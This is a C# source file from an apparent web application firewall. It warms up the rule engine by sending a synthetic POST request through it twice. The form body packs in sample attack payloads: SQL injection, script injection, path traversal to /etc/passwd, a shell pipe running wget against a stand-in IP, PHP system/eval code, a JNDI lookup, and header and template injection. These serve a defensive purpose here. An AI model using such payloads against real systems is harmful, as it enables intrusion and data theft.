using System.Net;
using WebPublisher.Waf;

namespace WebPublisher.Web.Firewall;

/// <summary>
/// Puts a request to rules before they come into force. Much of an engine is made when it is first needed (patterns, machine code), which takes longer than a request may:
/// the first visitor must not be refused for it.
/// </summary>
internal static class WarmUp
{
    // Something of each kind of attack, so that nothing is passed over.
    private static ReadOnlySpan<byte> Form =>
        "a=1%27+or+1%3D1+union+select+x+from+y--+-&b=%3Cscript+src%3Dx%3Ealert(1)%3C/script%3E%3Ca+href%3Djavascript:x+onclick%3Dx%3E&c=../../etc/passwd%00&d=;cat+/bin/sh|wget+http://192.0.2.1/x&e=%3C%3Fphp+system($_GET[0]);eval(1)&f=${jndi:ldap://x}&g=%0d%0aSet-Cookie:x&h=%7B%7Bconstructor%7D%7D&i=Plain+text,+of+a+few+words."u8;

    /// <summary>Puts it to them.</summary>
    public static void Run(RuleSet rules)
    {
        // Twice: what the first run was short of time for the second has.
        for (var run = 0; run < 2; run++)
        {
            using var transaction = rules.Begin();
            transaction.Connect(IPAddress.Loopback, 1, IPAddress.Loopback, 2);
            transaction.SetRequest("POST", "/index.html?q=text&r=%27%22%3C", "HTTP/1.1");
            transaction.AddRequestHeader("Host", "localhost");
            transaction.AddRequestHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)");
            transaction.AddRequestHeader("Accept", "text/html,*/*;q=0.8");
            transaction.AddRequestHeader("Cookie", "session=0123456789abcdef");
            transaction.AddRequestHeader("Referer", "https://localhost/");
            transaction.AddRequestHeader("Content-Type", "application/x-www-form-urlencoded");
            transaction.AddRequestHeader("Content-Length", $"{Form.Length}");
            transaction.JudgeRequestHeader();
            transaction.AppendRequestBody(Form);
            transaction.JudgeRequestBody(isWhole: true);
            transaction.Finish();
        }
    }
}
